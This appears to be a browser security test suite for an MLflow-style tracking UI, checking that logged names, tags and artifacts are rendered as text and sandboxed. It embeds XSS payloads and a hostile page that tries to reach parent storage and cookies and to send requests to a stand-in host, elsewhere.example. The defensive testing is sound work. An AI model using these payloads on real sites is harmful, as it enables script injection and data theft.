import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import { suite, unique } from './support/suite.js';

const app = await suite();
const HOSTILE = '<script>window.pwned=1</script><img src=x onerror="window.pwned=1">';
/** As much of it as the name of a file may be. */
const HOSTILE_NAME = '<img src=x onerror=window.pwned=1>';
const ELSEWHERE = 'https://elsewhere.example';

/** A page that tries everything it should not be able to do, and says what it reached. */
const PAGE = `<!doctype html><body>waiting<script>
const reached = [];
const attempt = (name, action) => { try { if (action() !== false) reached.push(name); } catch {} };
attempt('parent', () => { parent.document.title = 'pwned'; parent.pwned = 1; });
attempt('storage', () => { localStorage.setItem('pwned', '1'); });
attempt('cookies', () => { document.cookie = 'pwned=1'; return document.cookie !== ''; });
attempt('top', () => { top.location.href = '${ELSEWHERE}/top'; return false; });
attempt('window', () => window.open('${ELSEWHERE}/window') !== null);
fetch('/ajax-api/2.0/mlflow/experiments/get?experiment_id=0').then(() => reached.push('api'), () => {});
fetch('${ELSEWHERE}/fetch', { mode: 'no-cors' }).then(() => reached.push('fetch'), () => {});
new Image().src = '${ELSEWHERE}/image';
navigator.sendBeacon('${ELSEWHERE}/beacon', 'x');
const script = document.createElement('script');
script.src = '${ELSEWHERE}/script.js';
document.body.append(script);
document.body.insertAdjacentHTML('beforeend', '<form method=post action="${ELSEWHERE}/form"><button></form><link rel=prefetch href="${ELSEWHERE}/prefetch"><iframe src="${ELSEWHERE}/frame"></iframe>');
document.querySelector('form').submit();
setTimeout(() => { document.body.textContent = 'reached: ' + reached.join(' ') + '.'; }, 500);
setTimeout(() => { location.href = '${ELSEWHERE}/leave'; }, 1200);
</script>`;

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="parent.pwned=1"><script>parent.pwned=1;fetch('${ELSEWHERE}/svg')</script>
<image href="${ELSEWHERE}/svg.png" width="9" height="9"/><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="${ELSEWHERE}/x" onerror="parent.pwned=1"/></foreignObject></svg>`;

const MARKDOWN = `# ${HOSTILE}\n\n${HOSTILE}\n\n[link](javascript:window.pwned=1) ![picture](${ELSEWHERE}/picture.png) <iframe src="${ELSEWHERE}/md"></iframe>`;

const NOTEBOOK = JSON.stringify({
  cells: [
    { cell_type: 'markdown', source: MARKDOWN },
    {
      cell_type: 'code',
      source: HOSTILE,
      outputs: [
        { output_type: 'display_data', data: { 'text/html': PAGE } },
        { output_type: 'display_data', data: { 'image/svg+xml': SVG } },
        { output_type: 'display_data', data: { 'application/javascript': 'window.pwned=1' } },
        { output_type: 'stream', text: HOSTILE },
      ],
    },
  ],
});

let paths;
let run;
let runPath;

before(async () => {
  const experiment = await app.fill.experiment(unique(HOSTILE), { tag: HOSTILE, 'mlflow.note.content': HOSTILE });
  run = await app.fill.run(experiment, {
    name: HOSTILE,
    tags: {
      tag: HOSTILE,
      'mlflow.user': HOSTILE,
      'mlflow.source.name': 'javascript:window.pwned=1',
      'mlflow.source.git.commit': 'javascript:window.pwned=1',
      'mlflow.source.git.repoURL': 'javascript:window.pwned=1//github.com/a/b',
      'mlflow.note.content': MARKDOWN,
    },
    params: { param: HOSTILE, '__proto__.x': HOSTILE, '__proto__.y': HOSTILE },
    metrics: [['constructor', 1, 0], ['constructor', 2, 1]],
  });
  await app.fill.call('POST', 'runs/log-inputs', {
    run_id: run.run_id,
    datasets: [{ dataset: { name: HOSTILE, digest: 'd', source_type: '<b>local</b>', source: 'javascript:window.pwned=1', schema: HOSTILE, profile: HOSTILE } }],
  });
  const model = unique(HOSTILE).replaceAll('/', '');
  await app.fill.model(model, run, { description: HOSTILE, versions: [HOSTILE] });
  const put = (name, content) => app.fill.artifact(run, name, content);
  await put('page.html', PAGE);
  await put('image.svg', SVG);
  await put('notes.md', MARKDOWN);
  await put('book.ipynb', NOTEBOOK);
  await put('table.csv', `${HOSTILE}\n${HOSTILE}\n`);
  await put('data.json', JSON.stringify({ [HOSTILE]: HOSTILE }));
  await put('model/MLmodel', `flavors:\n  '${HOSTILE_NAME}':\n    '${HOSTILE_NAME}': '${HOSTILE_NAME}'\nmodel_uuid: '${HOSTILE_NAME}'\n`);
  await put('polyglot.png', PAGE);
  await put(`${encodeURIComponent(HOSTILE_NAME)}/${encodeURIComponent(HOSTILE_NAME)}.txt`, HOSTILE);
  runPath = `/experiments/${experiment}/runs/${run.run_id}`;
  paths = [
    '/experiments',
    `/experiments/${experiment}/runs`,
    runPath,
    `${runPath}?params=tree`,
    `${runPath}/model-metrics`,
    '/models',
    `/models/${encodeURIComponent(model)}`,
    `${runPath}/artifacts/table.csv`,
    `${runPath}/artifacts/data.json`,
    `${runPath}/artifacts/model`,
    `${runPath}/artifacts/${encodeURIComponent(HOSTILE_NAME)}/${encodeURIComponent(HOSTILE_NAME)}.txt`,
  ];
});

test('names, tags and descriptions are text and never markup', async (t) => {
  const page = await app.open(t, '/experiments');
  for (const path of paths) {
    await page.goto(`${app.url}/#${path}`);
    await page.reload();
    await page.getByText('window.pwned=1').first().waitFor();
    await page.waitForLoadState('networkidle');
    assert.equal(await page.evaluate(() => window.pwned), undefined, path);
    assert.equal(await page.locator('main img, main script, main iframe').count(), 0, path);
    assert.equal(await page.locator('a[href^="javascript:" i]').count(), 0, path);
  }
});

/** A page in which a stranger's content may fail at what it tries; what leaves for other servers is noted and goes nowhere. */
async function openWithStranger(t, path) {
  const context = await app.browser.newContext();
  t.after(() => context.close());
  const left = [];
  const isOwn = (url) => url.startsWith(app.url) || url.startsWith('data:') || url.startsWith('blob:');
  await context.route((url) => !isOwn(url.href), (route) => {
    left.push(route.request().url());
    return route.abort();
  });
  const page = await context.newPage();
  await page.goto(`${app.url}/#${path}`);
  return { context, page, left };
}

async function assertUntouched({ context, page, left }) {
  // Longer than the page waits before it tries to leave.
  await page.waitForTimeout(1_500);
  assert.deepEqual(left, []);
  assert.equal(await page.evaluate(() => window.pwned), undefined);
  assert.equal(await page.evaluate(() => localStorage.getItem('pwned')), null);
  assert.ok(page.url().startsWith(app.url), page.url());
  assert.deepEqual(await context.cookies(), []);
  assert.equal(context.pages().length, 1);
}

test('a page that was logged runs in a frame without rights and reaches nothing', async (t) => {
  const opened = await openWithStranger(t, `${runPath}/artifacts/page.html`);
  const frame = opened.page.locator('iframe');
  assert.equal(await frame.getAttribute('sandbox'), 'allow-scripts');
  await opened.page.frameLocator('iframe').getByText('reached: .').waitFor();
  await assertUntouched(opened);
  await opened.page.getByText('elsewhere.example').waitFor();
});

test('the same page in a window of its own runs no script', async (t) => {
  const { page, left } = await openWithStranger(t, '/experiments');
  const answer = await page.goto(`${app.url}/ajax-api/tracker/artifacts/content?run_id=${run.run_id}&path=page.html`);
  assert.equal(answer.headers()['x-content-type-options'], 'nosniff');
  await page.waitForTimeout(1_500);
  assert.equal(await page.locator('body').innerText(), 'waiting');
  assert.ok(page.url().startsWith(app.url), page.url());
  assert.deepEqual(left, []);
});

test('the outputs of a notebook run in frames without rights', async (t) => {
  const opened = await openWithStranger(t, `${runPath}/artifacts/book.ipynb`);
  const frames = opened.page.locator('main iframe');
  await frames.first().waitFor();
  assert.equal(await frames.count(), 1);
  assert.equal(await frames.getAttribute('sandbox'), 'allow-scripts');
  await opened.page.frameLocator('main iframe').getByText('reached: .').waitFor();
  await assertUntouched(opened);
  assert.equal(await opened.page.locator('a[href^="javascript:" i]').count(), 0);
});

for (const name of ['image.svg', 'polyglot.png', 'notes.md']) {
  test(`what is hidden in ${name} does not run`, async (t) => {
    const opened = await openWithStranger(t, `${runPath}/artifacts/${name}`);
    await opened.page.getByRole('heading', { name, level: 2 }).waitFor();
    await assertUntouched(opened);
    assert.equal(await opened.page.locator('main iframe, main script, a[href^="javascript:" i]').count(), 0);
  });
}

test('a download is saved and never shown as a page of this server', async (t) => {
  const page = await app.open(t, '/experiments');
  for (const name of ['page.html', 'image.svg']) {
    const saved = page.waitForEvent('download');
    await page.evaluate((url) => { location.href = url; }, `get-artifact?${new URLSearchParams({ run_id: run.run_id, path: name })}`);
    assert.equal((await saved).suggestedFilename(), name);
  }
  assert.equal(await page.evaluate(() => window.pwned), undefined);
});

test('the page is served under a policy that allows its own files alone', async () => {
  const policy = (await fetch(`${app.url}/`)).headers.get('content-security-policy') ?? '';
  assert.match(policy, /default-src 'self'/);
  assert.doesNotMatch(policy, /unsafe-|\*/);
});
